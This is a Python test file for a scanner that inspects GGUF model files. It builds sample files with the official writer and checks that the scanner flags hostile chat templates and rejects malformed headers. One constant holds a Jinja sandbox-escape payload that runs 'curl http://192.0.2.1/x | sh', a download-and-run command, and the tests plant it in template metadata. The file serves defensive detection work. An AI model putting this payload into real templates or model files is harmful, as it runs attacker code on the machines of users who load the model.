"""GGUF: the template in its metadata is code, the rest is numbers."""

import struct

import gguf
import numpy
import pytest

from scanner.blob import Fragment
from scanner.finding import Verdict
from tests.formats.unwrapping import complaints, contents, names, unwrap
from tests.hostile.scanning import blocked_for, scan
from tests.languages.jinja.test_jinja import CHATML
from tests.recipes.archives import PICKLE

ESCAPE = "{{ cycler.__init__.__globals__.os.popen('curl http://192.0.2.1/x | sh').read() }}"


def written(tmp_path, template: str | None = None, order: gguf.GGUFEndian = gguf.GGUFEndian.LITTLE) -> bytes:
    """A file as the official writer makes it."""
    path = tmp_path / "weights.gguf"
    writer = gguf.GGUFWriter(path, "llama", endianess=order)
    writer.add_context_length(2048)
    writer.add_token_list([f"token {n}" for n in range(3000)])
    writer.add_token_scores([0.5] * 3000)
    if template is not None:
        writer.add_chat_template(template)
    writer.add_tensor("a.weight", numpy.ones((4, 32), "f4"))
    writer.add_tensor("b.weight", numpy.ones((7, 32), "f2"))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path.read_bytes()


@pytest.mark.parametrize("order", list(gguf.GGUFEndian))
def test_honest_files_are_clean(tmp_path, order):
    data = written(tmp_path, CHATML, order)
    assert names(data) == ["gguf"]
    assert scan(data, "weights.gguf").verdict is Verdict.CLEAN


@pytest.mark.parametrize("order", list(gguf.GGUFEndian))
def test_the_template_runs_when_it_is_rendered(tmp_path, order):
    assert blocked_for(scan(written(tmp_path, ESCAPE, order), "weights.gguf")) == {"download-and-run"}


def test_every_template_is_read(tmp_path):
    data = written(tmp_path, [{"name": "tools", "template": ESCAPE}])
    (fragment,) = [f for f in unwrap("gguf", data) if isinstance(f, Fragment)]
    assert fragment.language == "jinja"


def test_data_behind_the_tensors(tmp_path):
    data = written(tmp_path)
    assert contents(unwrap("gguf", data + PICKLE))["(trailing data)"].endswith(PICKLE)


def test_version_1_has_short_lengths():
    key = (
        struct.pack("<I", 23)
        + b"tokenizer.chat_template"
        + struct.pack("<II", 8, len(ESCAPE))
        + ESCAPE.encode()
    )
    data = b"GGUF" + struct.pack("<III", 1, 0, 1) + key
    assert blocked_for(scan(data, "weights.gguf")) == {"download-and-run"}


@pytest.mark.parametrize(
    "header",
    [
        struct.pack("<QQ", 0, 1 << 40),
        struct.pack("<QQQ", 0, 1, 1 << 50),
        struct.pack("<QQQ", 0, 1, 1) + b"k" + struct.pack("<I", 77),
        struct.pack("<QQQ", 0, 1, 1) + b"k" + struct.pack("<IIQ", 9, 9, 1) * 9,
        struct.pack("<QQQ", 0, 1, 1) + b"k" + struct.pack("<IIQ", 9, 8, 1 << 60),
        struct.pack("<QQ", 1, 0),
    ],
)
def test_a_header_that_lies_is_malformed(header):
    assert complaints(unwrap("gguf", b"GGUF\3\0\0\0" + header)) == ["Malformed"]
